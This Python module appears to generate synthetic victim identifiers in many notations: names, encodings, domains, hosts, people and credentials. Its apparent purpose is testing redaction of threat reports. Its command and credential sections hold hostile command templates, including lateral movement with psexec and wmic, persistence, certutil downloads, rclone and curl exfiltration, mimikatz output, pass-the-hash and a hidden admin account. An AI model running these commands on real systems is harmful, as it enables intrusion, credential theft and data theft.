"""The forms in which a victim shows: each a text to plant, in every notation that reports, logs and samples are written in."""
import base64, codecs, gzip, unicodedata
from email.header import Header
from urllib.parse import quote

from victims import full_width, half_width, hiragana, romaji


def b64(text, codec="utf-8"):
    return base64.b64encode(text.encode(codec)).decode()


def escaped(text):
    return "".join(f"\\u{ord(c):04x}" if ord(c) < 0x10000 else c for c in text)


def kanji_number(digits):
    return "".join("〇一二三四五六七八九"[int(c)] for c in digits)


def address(v, rng):
    return rng.choice(list(v.network.hosts())[:12])


def private(rng):
    return rng.choice([f"10.{rng.randrange(1, 250)}.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}", f"172.{rng.randrange(16, 32)}.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}",
                       f"192.168.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}"])


def machine(rng):
    return "S-1-5-21-" + "-".join(str(rng.randrange(10**8, 4 * 10**9)) for _ in range(3)) + f"-{rng.randrange(1000, 9999)}"


def secret(rng):
    return "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZ") + rng.choice("abcdefghijkmnopqrstuvwxyz") + str(rng.randrange(10)) for _ in range(3)) + "!"


FORMS = {}


def form(surface):
    def register(function):
        FORMS[function.__name__.replace("_", "-")] = (surface, function)
        return function
    return register


# ---- names -------------------------------------------------------------------------------------------------------
@form("name")
def name_as_written(v, rng): return v.name
@form("name")
def name_short(v, rng): return v.short
@form("name")
def name_bracketed(v, rng): return f"(株){v.short}"
@form("name")
def name_squared(v, rng): return f"㈱{v.short}"
@form("name")
def name_squared_behind(v, rng): return f"{v.short}㈱"
@form("name")
def name_honorific(v, rng): return f"{v.short}様"
@form("name")
def name_addressed(v, rng): return f"{v.name} 御中"
@form("name")
def name_spaced(v, rng): return f"{v.core} {v.trade}"
@form("name")
def name_zero_width(v, rng): return v.short[0] + "\u200b" + v.short[1:]
@form("name")
def name_broken_line(v, rng): return v.core + "\n" + v.trade
@form("name")
def name_katakana(v, rng): return v.kana
@form("name")
def name_half_width_kana(v, rng): return half_width(v.kana)
@form("name")
def name_hiragana(v, rng): return hiragana(v.kana)
@form("name")
def name_middle_dot(v, rng): return f"{v.core_kana}・{v.trade_kana}"
@form("name")
def name_romaji(v, rng): return f"{v.roman}{v.roman_trade}"
@form("name")
def name_romaji_capitals(v, rng): return f"{v.roman} {v.roman_trade}".upper()
@form("name")
def name_romaji_camel(v, rng): return v.roman.capitalize() + v.roman_trade.capitalize()
@form("name")
def name_romaji_underscore(v, rng): return f"{v.roman}_{v.roman_trade}"
@form("name")
def name_romaji_kunrei(v, rng): return romaji(v.kana, kunrei=True)
@form("name")
def name_romaji_long(v, rng): return romaji(v.kana, "full")
@form("name")
def name_romaji_full_width(v, rng): return full_width(f"{v.roman}{v.roman_trade}".upper())
@form("name")
def name_english(v, rng): return f"{v.english} Co., Ltd."
@form("name")
def name_english_joined(v, rng): return v.english.replace(" ", "")
@form("name")
def product(v, rng): return f"{v.product} ver. 3"
@form("name")
def name_reversed(v, rng): return f"{v.roman}{v.roman_trade}"[::-1]


# ---- encoded -----------------------------------------------------------------------------------------------------
@form("encoded")
def base64_utf8(v, rng): return b64(v.short)
@form("encoded")
def base64_inside(v, rng): return b64(f"id=7;org={v.name};role=admin")
@form("encoded")
def base64_utf16(v, rng): return b64(f"$o='{v.label}';iwr $u", "utf-16-le")
@form("encoded")
def base64_cp932(v, rng): return b64(v.name + "の件", "cp932")
@form("encoded")
def base64_gzip(v, rng): return base64.b64encode(gzip.compress(f"org={v.name} host={v.domain}".encode(), mtime=0)).decode()
@form("encoded")
def hex_utf8(v, rng): return v.short.encode().hex()
@form("encoded")
def hex_spaced(v, rng): return v.label.encode().hex(" ")
@form("encoded")
def percent_utf8(v, rng): return "?q=" + quote(v.short)
@form("encoded")
def percent_cp932(v, rng): return "?q=" + quote(v.name, encoding="cp932")
@form("encoded")
def json_escaped(v, rng): return escaped(v.short)
@form("encoded")
def html_entities(v, rng): return "".join(f"&#{ord(c)};" for c in v.short)
@form("encoded")
def punycode(v, rng): return "www." + (v.short if len(v.short) > 1 else v.short + v.trade).encode("idna").decode() + ".jp"
@form("encoded")
def mime_word(v, rng):
    try:
        return Header(v.name, "iso-2022-jp").encode()
    except UnicodeEncodeError:  # old glyphs are not in it
        return Header(v.name, "utf-8").encode()
@form("encoded")
def quoted_printable(v, rng): return "".join(f"={b:02X}" for b in v.short.encode())


# ---- domains, and what attackers make of them --------------------------------------------------------------------
@form("domain")
def domain(v, rng): return v.domain
@form("domain")
def domain_host(v, rng): return f"mail01.{v.domain}"
@form("domain")
def domain_defanged(v, rng): return v.domain.replace(".", "[.]")
@form("domain")
def domain_full_width_dot(v, rng): return v.domain.replace(".", "．")
@form("domain")
def domain_mail(v, rng): return f"soumu@{v.domain}"
@form("domain")
def domain_url(v, rng): return f"hxxps://vpn.{v.domain}/remote/login"
@form("domain")
def tenant(v, rng): return f"admin@{v.tenant}"
@form("domain")
def look_alike_suffix(v, rng): return f"{v.label}-login.com"
@form("domain")
def look_alike_tld(v, rng): return f"{v.label}.support"
@form("domain")
def look_alike_letters(v, rng): return v.label.replace("m", "rn", 1).replace("i", "1", 1) + "-portal.net"
@form("domain")
def name_in_host(v, rng): return f"{v.roman}{v.roman_trade}.sso-check.net"
@form("domain")
def name_in_deep_host(v, rng): return f"owa.{v.label}.update-center.org"
@form("domain")
def name_in_path(v, rng): return f"http://cdn-static.net/{v.label}/index.php"
@form("domain")
def name_in_query(v, rng): return f"http://cdn-static.net/c?e={b64('soumu@' + v.domain)}"
@form("sample")
def name_in_file(v, rng): return f"{v.short}_見積書.xlsm"
@form("sample")
def name_in_mutex(v, rng): return f"mutex: Global\\{v.roman.upper()}{v.roman_trade.upper()}_42"
@form("sample")
def name_in_pdb(v, rng): return f"D:\\work\\{v.label}\\loader\\Release\\loader.pdb"
@form("sample")
def name_in_campaign(v, rng): return f"campaign_id={v.roman}{v.roman_trade}-0412"
@form("sample")
def proxy_setting(v, rng): return f"proxy=prx01.{v.ad_dns}:8080"


# ---- inside the network ------------------------------------------------------------------------------------------
@form("inside")
def host_prefix(v, rng): return f"{v.abbreviation}-PC{rng.randrange(1000):04}"
@form("inside")
def host_lower(v, rng): return f"{v.abbreviation.lower()}-fs01.{v.ad_dns}"
@form("inside")
def share(v, rng): return f"\\\\{v.abbreviation}-FS02\\share$\\a.exe"
@form("inside")
def ad_user(v, rng): return f"{v.ad}\\{v.people[0].last}"
@form("inside")
def distinguished_name(v, rng): return f"CN={v.people[0].last.capitalize()} {v.people[0].first.capitalize()},OU=Sales,DC=corp,DC={v.roman},DC=local"
@form("inside")
def principal(v, rng): return f"{v.people[1].first}.{v.people[1].last}@{v.ad_dns}"
@form("inside")
def owned_address(v, rng): return str(address(v, rng))
@form("inside")
def owned_defanged(v, rng): return str(address(v, rng)).replace(".", "[.]")
@form("inside")
def owned_number(v, rng): return f"http://{int(address(v, rng))}/a"
@form("inside")
def owned_hex(v, rng): return f"http://0x{int(address(v, rng)):08x}/a"
@form("inside")
def owned_mapped(v, rng): return f"::ffff:{address(v, rng)}"
@form("inside")
def owned_reverse(v, rng): return address(v, rng).reverse_pointer
@form("inside")
def owned_dashed(v, rng): return f"ip-{str(address(v, rng)).replace('.', '-')}.isp.example"
@form("inside")
def owned_network(v, rng): return str(v.network)
@form("inside")
def private_address(v, rng): return f"10.{rng.randrange(1, 250)}.{rng.randrange(1, 250)}.{rng.randrange(2, 250)}"


# ---- people ------------------------------------------------------------------------------------------------------
@form("person")
def person(v, rng): return v.people[0].name + "さん"
@form("person")
def person_spaced(v, rng): return f"{v.people[1].surname} {v.people[1].given}"
@form("person")
def person_kana(v, rng): return f"{v.people[0].surname_kana} {v.people[0].given_kana}"
@form("person")
def person_western(v, rng): return f"{v.people[0].first.capitalize()} {v.people[0].last.upper()}"
@form("person")
def person_japanese_order(v, rng): return f"{v.people[1].last.capitalize()} {v.people[1].first.capitalize()}"
@form("person")
def person_mail(v, rng): return f"{v.people[0].first[0]}-{v.people[0].last}@{v.domain}"
@form("person")
def person_profile_folder(v, rng): return f"C:\\Users\\{v.people[0].last}.{v.people[0].first}\\Downloads\\a.zip"
@form("person")
def phone(v, rng): return v.phone
@form("person")
def phone_international(v, rng): return "+81-" + v.phone[1:]
@form("person")
def phone_full_width(v, rng): return full_width(v.phone)
@form("person")
def postal_address(v, rng): return v.place + v.block
@form("person")
def postal_address_short(v, rng): return v.place[3:] + v.block
@form("person")
def postal_address_kanji(v, rng): return v.place + kanji_number(v.block.split("-")[0]) + "丁目" + v.block.split("-")[1] + "番"


# ---- third parties and secrets ------------------------------------------------------------------------------------
@form("other")
def related(v, rng): return v.related
@form("other")
def related_mail(v, rng): return f"support@{v.related_domain}"
@form("other")
def secret_net_use(v, rng): return f"net use Z: \\\\10.1.2.3\\c$ Tg7!kQ{v.roman}9 /user:adm"
@form("other")
def secret_japanese(v, rng): return f"パスワード: Xq4-{v.roman}-88"


# ---- rarer notations ---------------------------------------------------------------------------------------------
@form("name")
def name_decomposed(v, rng): return unicodedata.normalize("NFD", v.kana)
@form("name")
def name_wide_spaces(v, rng): return "\u3000".join(v.short)
@form("name")
def name_letters_apart(v, rng): return " ".join(f"{v.roman}{v.roman_trade}".upper())
@form("name")
def name_dotted(v, rng): return f"{v.roman}.{v.roman_trade}"
@form("name")
def name_with_year(v, rng): return f"{v.roman}{v.roman_trade}2024"
@form("name")
def name_group(v, rng): return f"{v.short}グループ"
@form("name")
def name_branch(v, rng): return f"{v.short}大阪支店"
@form("name")
def name_quoted_corner(v, rng): return f"「{v.name}」"
@form("name")
def name_macron(v, rng): return romaji(v.kana, "full").replace("ou", "ō").replace("uu", "ū").capitalize()
@form("name")
def name_long_h(v, rng): return romaji(v.kana, "h")
@form("encoded")
def base64_twice(v, rng): return b64(b64(f"target={v.label}"))
@form("encoded")
def base64_url_safe(v, rng): return base64.urlsafe_b64encode(f"?{v.name}??{v.domain}".encode()).decode().rstrip("=")
@form("encoded")
def hex_utf16(v, rng): return v.label.encode("utf-16-le").hex()
@form("encoded")
def hex_escaped(v, rng): return "".join(f"\\x{b:02x}" for b in v.label.encode())
@form("encoded")
def hex_c_array(v, rng): return ", ".join(f"0x{b:02x}" for b in v.label.encode())
@form("encoded")
def percent_all(v, rng): return "".join(f"%{b:02x}" for b in v.label.encode())
@form("encoded")
def percent_twice(v, rng): return quote(quote(v.short))
@form("encoded")
def rot13(v, rng): return codecs.encode(v.label, "rot13")
@form("encoded")
def base64_reversed(v, rng): return b64(v.label)[::-1]
@form("encoded")
def entities_hex(v, rng): return "".join(f"&#x{ord(c):x};" for c in v.domain)
@form("encoded")
def base64_json(v, rng): return b64('{"tenant":"' + v.tenant + '","u":"' + v.people[0].last + '"}')
@form("domain")
def sharepoint(v, rng): return f"https://{v.label.replace('-', '')}-my.sharepoint.com/personal"
@form("domain")
def bucket(v, rng): return f"s3://{v.label}-backup/2024"
@form("domain")
def message_id(v, rng): return f"Message-ID: <20240509.1@mx.{v.domain}>"
@form("domain")
def dkim(v, rng): return f"dkim=pass header.d={v.domain} header.s=s1"
@form("domain")
def certificate_subject(v, rng): return f"CN=*.{v.domain}, O=\"{v.english} Co., Ltd.\", C=JP"
@form("domain")
def name_reversed_labels(v, rng): return ".".join(reversed(v.domain.split("."))) + ".app"
@form("domain")
def defanged_mixed(v, rng): return "hXXps[:]//www(.)" + v.domain.replace(".", "{.}") + "/owa"
# A label of fewer than six letters with one of them changed is anybody's.
def turned(v, changed): return changed if len(v.label.replace("-", "")) > 6 else f"{v.label}-login"
@form("domain")
def dnstwist_repeat(v, rng): return turned(v, v.label.replace("a", "aa", 1)) + ".com"
@form("domain")
def dnstwist_swap(v, rng): return turned(v, v.label[:2] + v.label[3:4] + v.label[2:3] + v.label[4:]) + ".net"
@form("domain")
def dnstwist_omit(v, rng): return turned(v, v.label[:3] + v.label[4:]) + ".org"
@form("domain")
def confusable(v, rng): return v.label.replace("o", "о", 1).replace("a", "а", 1) + ".com"
@form("inside")
def kerberos(v, rng): return f"$krb5tgs$23$*svc_sql${v.ad_dns.upper()}$MSSQLSvc/{v.abbreviation.lower()}-db01.{v.ad_dns}:1433*$8a6c1f"
@form("inside")
def service_principal(v, rng): return f"HTTP/{v.abbreviation}-WEB01.{v.ad_dns}"
@form("inside")
def ad_user_lower(v, rng): return f"{v.ad.lower()}\\svc-backup"
@form("inside")
def ad_user_doubled(v, rng): return f"{v.ad}\\\\{v.people[1].last}"
@form("inside")
def wireless(v, rng): return f"SSID={v.abbreviation}-GUEST"
@form("inside")
def ldap(v, rng): return f"ldap://{v.abbreviation.lower()}-dc01.{v.ad_dns}/DC=corp,DC={v.roman},DC=local"
@form("inside")
def owned_port(v, rng): return f"{address(v, rng)}:443"
@form("inside")
def owned_octal(v, rng): return "http://" + ".".join(f"0{int(part):o}" for part in str(address(v, rng)).split(".")) + "/"
@form("inside")
def owned_range(v, rng): return f"{address(v, rng)}-{rng.randrange(20, 60) + int(str(v.network.network_address).split('.')[3])}"
@form("inside")
def owned_padded(v, rng): return ".".join(f"{int(part):03}" for part in str(address(v, rng)).split("."))
@form("inside")
def owned_base64(v, rng): return b64(f"ip={address(v, rng)}&p=443")
@form("inside")
def owned_ipv6_hex(v, rng): return f"::ffff:{int(address(v, rng)) >> 16:x}:{int(address(v, rng)) & 0xffff:x}"
@form("person")
def phone_brackets(v, rng): return "({}){}-{}".format(*v.phone.split("-"))
@form("person")
def phone_dots(v, rng): return v.phone.replace("-", ".")
@form("person")
def phone_joined(v, rng): return "TEL:" + v.phone.replace("-", "")
@form("person")
def person_surname_title(v, rng): return f"{v.people[0].surname}部長"
@form("person")
def person_underscore(v, rng): return f"{v.people[0].last}_{v.people[0].first}.zip"
@form("person")
def person_half_width(v, rng): return half_width(f"{v.people[1].surname_kana} {v.people[1].given_kana}")
@form("person")
def person_hiragana(v, rng): return hiragana(v.people[1].surname_kana + v.people[1].given_kana)
@form("person")
def person_comma(v, rng): return f"{v.people[0].last.upper()}, {v.people[0].first.capitalize()}"
@form("person")
def person_git(v, rng): return f"Author: {v.people[0].first.capitalize()} {v.people[0].last.capitalize()} <{v.people[0].last}@{v.domain}>"
@form("person")
def postal_spaced(v, rng): return f"〒690-0887 {v.place} {v.block}"
@form("person")
def postal_full_width(v, rng): return v.place + full_width(v.block)
@form("person")
def postal_chome(v, rng): return v.place + "{}丁目{}番地".format(*v.block.split("-"))
@form("other")
def related_romaji(v, rng): return v.related_domain.split(".")[0]
@form("other")
def secret_url(v, rng): return f"ftp://{v.people[0].last}:Kp9!zz{v.roman}@ftp.{v.related_domain}/"
@form("other")
def secret_header(v, rng): return "Authorization: Basic " + b64(f"{v.people[0].last}:{v.roman}Pass1!")


# ---- commands: what is inside goes, the command stays; the needles are told beside the text -----------------------
def command(function):
    @form("command")
    def told(v, rng):
        return function(v, rng)
    FORMS["command-" + function.__name__.replace("_", "-")] = FORMS.pop("told")
    return function


@command
def psexec(v, rng):
    host, word = private(rng), secret(rng)
    return f"psexec.exe \\\\{host} -u {v.ad}\\{v.people[0].last} -p {word} cmd /c whoami", [host, word, v.ad]
@command
def net_use(v, rng):
    host, word = private(rng), secret(rng)
    return f"net use Z: \\\\{host}\\c$ {word} /user:{v.ad}\\svc_bk", [host, word]
@command
def admin_share(v, rng):
    host = private(rng)
    return f"cmd /c copy C:\\ProgramData\\w.exe \\\\{host}\\ADMIN$\\Temp\\w.exe", [host]
@command
def task_remote(v, rng):
    host = f"{v.abbreviation}-SRV{rng.randrange(10, 99)}"
    return f"schtasks /create /s {host} /tn Updater /tr C:\\Windows\\Temp\\a.exe /sc onstart", [host]
@command
def wmi(v, rng):
    host = private(rng)
    return f"wmic /node:{host} process call create \"rundll32 C:\\Windows\\Temp\\a.dll,Start\"", [host]
@command
def registry_user(v, rng):
    sid = machine(rng)
    return f"reg add HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\a.exe", [sid]
@command
def tasklist(v, rng):
    host, word = private(rng), secret(rng)
    return f"tasklist /S {host} /U {v.ad}\\{v.people[1].last} /P {word}", [host, word]
@command
def rclone(v, rng):
    return f"rclone copy \\\\{v.abbreviation}-FS01\\設計 mega:out --transfers 8", [f"{v.abbreviation}-FS01"]
@command
def mimikatz(v, rng):
    digest = f"{rng.randrange(1 << 127, 1 << 128):032x}"
    return f"Username : {v.people[0].last} Domain : {v.ad} NTLM : {digest}", [v.ad, digest]
@command
def powershell_session(v, rng):
    return f"powershell Enter-PSSession -ComputerName {v.abbreviation.lower()}-dc01.{v.ad_dns}", [v.ad_dns]
@command
def portproxy(v, rng):
    host = private(rng)
    return f"netsh interface portproxy add v4tov4 listenport=8443 connectaddress={host} connectport=3389", [host]
@command
def certutil_inside(v, rng):
    host = private(rng)
    return f"certutil -urlcache -f http://{host}:8080/x.exe x.exe", [host]
@command
def url_beacon(v, rng):
    host = private(rng)
    return f"http://stat-collect.top/g.php?ip={host}&pc={v.abbreviation}-PC0{rng.randrange(100, 999)}", [host, f"{v.abbreviation}-PC0"]
@command
def profile_path(v, rng):
    return f"C:\\Users\\{v.people[1].first}.{v.people[1].last}\\AppData\\Roaming\\svc\\upd.exe", [f"{v.people[1].first}.{v.people[1].last}"]


# ---- credentials: the secret goes, wherever it stands -------------------------------------------------------------
def credential(function):
    @form("secret")
    def told(v, rng):
        return function(v, rng)
    FORMS["secret-" + function.__name__.replace("_", "-")] = FORMS.pop("told")
    return function


def digest(rng):
    return f"{rng.randrange(1 << 124, 1 << 128):032x}"


@credential
def mimikatz_block(v, rng):
    d = digest(rng)
    return f"* NTLM     : {d}", [d]
@credential
def sam_dump(v, rng):
    d = digest(rng)
    return f"{v.people[0].last}:1104:aad3b435b51404eeaad3b435b51404ee:{d}:::", [d]
@credential
def net_ntlm(v, rng):
    d = digest(rng)
    return f"{v.people[1].last}::{v.ad}:1122334455667788:{d}:0101000000000000c0653150de09d201", [d]
@credential
def kerberos_roast(v, rng):
    d = digest(rng)
    return f"$krb5asrep$23$svc_app@{v.ad_dns.upper()}:{d}$0074b00c9f", [d]
@credential
def pass_the_hash(v, rng):
    d = digest(rng)
    return f"sekurlsa::pth /user:admin /domain:{v.ad} /ntlm:{d}", [d]
@credential
def cmdkey(v, rng):
    s = secret(rng)
    return f"cmdkey /add:srv01 /user:adm /pass:{s}", [s]
@credential
def connection_string(v, rng):
    s = secret(rng)
    return f"Server=db;User Id=sa;Password={s};", [s]
@credential
def psk(v, rng):
    s = secret(rng)
    return f"VPN PSK: {s}", [s]
@credential
def gpp(v, rng):
    s = b64(secret(rng) + secret(rng))
    return f"<Properties action=\"U\" cpassword=\"{s}\" userName=\"ladmin\"/>", [s]
@credential
def id_and_password(v, rng):
    s = secret(rng)
    return f"ID/PW: admin / {s}", [s]
@credential
def japanese_label(v, rng):
    s = secret(rng)
    return f"管理者のパスワードは「{s}」でした", [s]
@credential
def basic_authentication(v, rng):
    s = secret(rng)
    return "Authorization: Basic " + b64(f"admin:{s}"), [s]
@credential
def ftp_url(v, rng):
    s = secret(rng)
    return f"ftp://upload:{s}@185.99.3.14/in/", [s]
@credential
def encoded_command(v, rng):
    s = secret(rng)
    return "powershell -enc " + b64(f"$c=New-Object PSCredential('adm',(ConvertTo-SecureString '{s}' -AsPlainText -Force))", "utf-16-le"), [s]
@credential
def curl_user(v, rng):
    s = secret(rng)
    return f"curl -u admin:{s} https://files-share.top/up", [s]
@credential
def ssh_pass(v, rng):
    s = secret(rng)
    return f"sshpass -p '{s}' ssh root@10.4.4.4", [s]
@credential
def net_user_add(v, rng):
    s = secret(rng)
    return f"net user backup$ {s} /add", [s]
@credential
def token(v, rng):
    s = "ghp_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(36))
    return f"git clone https://{s}@github.com/x/y", [s]


# ---- lessons of later attacks -------------------------------------------------------------------------------------
@form("name")
def name_ampersand_spelled(v, rng): return v.short.replace("&", "＆") if "&" in v.short else v.short + "社"
@form("name")
def name_of_short_form(v, rng): return v.name.replace("株式会社", "㈱")
@form("name")
def name_entity(v, rng): return "&amp;".join(v.short.split("&")) + " 殿"
@form("inside")
def document_on_share(v, rng): return f"\\\\{v.abbreviation}-FS01\\営業部\\{v.core}_見積一覧.xlsx"
@form("person")
def mail_from(v, rng): return f"From: \"{v.people[0].name}\" <{v.people[0].last}.{v.people[0].first[0]}@{v.domain}>"
@form("person")
def person_initial(v, rng): return f"{v.people[0].first[0].upper()}. {v.people[0].last.capitalize()}"
@form("person")
def person_signature(v, rng): return f"{v.short} 情報システム部\n{v.people[0].name}\nTEL {v.phone}"
@form("domain")
def calendar(v, rng): return f"https://teams.microsoft.com/l/meetup-join/?tenantId={v.tenant}&oid={v.people[0].last}"
@form("encoded")
def json_doubly_escaped(v, rng): return escaped(v.short).replace("\\", "\\\\")
@form("encoded")
def utf7_like(v, rng): return "=?UTF-8?B?" + b64(v.name) + "?="
@form("encoded")
def css_escaped(v, rng): return "".join(f"\\{ord(c):x} " for c in v.label)
@form("encoded")
def char_codes(v, rng): return "+".join(f"chr({ord(c)})" for c in v.label)
@form("encoded")
def string_concatenation(v, rng): return "'" + "'+'".join(v.label[i:i + 3] for i in range(0, len(v.label), 3)) + "'"
@credential
def spraying(v, rng):
    d = digest(rng)
    return f"SMB 10.4.1.2 445 DC [+] {v.ad_dns}\\{v.people[0].last}:{d} (Pwn3d!)", [d]
@credential
def winrm_hash(v, rng):
    d = digest(rng)
    return f"evil-winrm -i 10.4.1.2 -u {v.people[0].last} -H {d}", [d]
@credential
def told_below(v, rng):
    s = secret(rng)
    return f"パスワードは下記の通りです。\n {s}\n", [s]
@credential
def variable(v, rng):
    s = secret(rng)
    return f"$pass = '{s}'; $cred = New-Object PSCredential('adm', $pass)", [s]
@credential
def sudo(v, rng):
    s = secret(rng)
    return f"echo '{s}' | sudo -S id", [s]
